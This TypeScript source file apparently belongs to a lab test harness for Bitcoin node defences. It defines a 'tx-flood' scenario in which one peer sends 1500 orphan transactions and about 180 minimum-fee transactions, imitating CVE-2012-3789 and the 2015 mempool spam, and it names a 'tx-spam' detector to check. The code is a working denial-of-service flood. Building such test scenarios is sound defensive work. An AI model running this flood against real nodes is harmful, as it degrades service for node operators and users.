// Transaction flood: one peer sends 1500 transactions whose inputs do not exist (orphans the node
// must hold and ask parents for) and 180 valid ones at about the minimum relay fee, unannounced.
// Imitates: the orphan-transaction memory DoS (CVE-2012-3789) that Bitcoin Core answered with a
// bounded orphanage (today DEFAULT_MAX_ORPHANAGE_LATENCY_SCORE 3000, node/txorphanage.h), and
// low-fee spam at -minrelaytxfee (the 2015 "stress tests" that filled mempools with dust-fee txs).
import { randomBytes } from "node:crypto";
import { OP_TRUE_SCRIPT, P2WSH_OP_TRUE, buildTx } from "../adversary/payloads.js";
import { DEFAULT_LATENCY_SECONDS, type Scenario } from "../scenario.js";

const ORPHANS = 1500;
const LOW_FEE = 180;
const FAN = 60;

export const txFlood: Scenario = {
  name: "tx-flood",
  kind: "attack",
  summary: `one peer sends ${ORPHANS} orphan transactions (inputs that do not exist) and ${LOW_FEE} valid ones paying about the minimum relay fee`,
  imitates: "orphan-transaction DoS CVE-2012-3789 (bounded orphanage since); the 2015 low-fee mempool stress tests",
  detectWith: ["tx-spam"],
  maxLatencySeconds: DEFAULT_LATENCY_SECONDS,
  maxSeconds: 60,
  async run(ctx) {
    const p = await ctx.connect(ctx.address(1));
    if (!(await p.handshake({ relay: true }))) return { messages: p.sent, connections: 1, notes: "handshake failed" };
    for (let i = 0; i < ORPHANS && p.isOpen; i++) {
      const tx = buildTx([{ txid: randomBytes(32).toString("hex"), vout: 0 }], [{ value: 10_000n, script: P2WSH_OP_TRUE }]);
      await p.send("tx", tx.bytes);
      if (i % 100 === 99) await ctx.sleep(200);
    }
    // Valid transactions at about the minimum relay fee (0.1 sat/vB on v30+, -minrelaytxfee):
    // each lab coin is split into FAN outputs (a cluster stays under DEFAULT_CLUSTER_LIMIT 64),
    // then every output is spent alone paying 20 sat (~0.2 sat/vB).
    let sent = 0;
    for (let f = 0; f * FAN < LOW_FEE && p.isOpen; f++) {
      const coin = ctx.takeCoin();
      const each = (coin.value - 5_000n) / BigInt(FAN);
      const fan = buildTx(
        [{ txid: coin.txid, vout: coin.vout, witness: [OP_TRUE_SCRIPT] }],
        Array.from({ length: FAN }, () => ({ value: each, script: P2WSH_OP_TRUE })),
      );
      await p.send("tx", fan.bytes);
      for (let k = 0; k < FAN && p.isOpen; k++) {
        const tx = buildTx([{ txid: fan.txid, vout: k, witness: [OP_TRUE_SCRIPT] }], [{ value: each - 20n, script: P2WSH_OP_TRUE }]);
        await p.send("tx", tx.bytes);
        sent++;
      }
      await ctx.sleep(300);
    }
    await ctx.sleep(3000);
    p.close();
    return { messages: p.sent, connections: 1, notes: `${sent} low-fee txs` };
  },
};
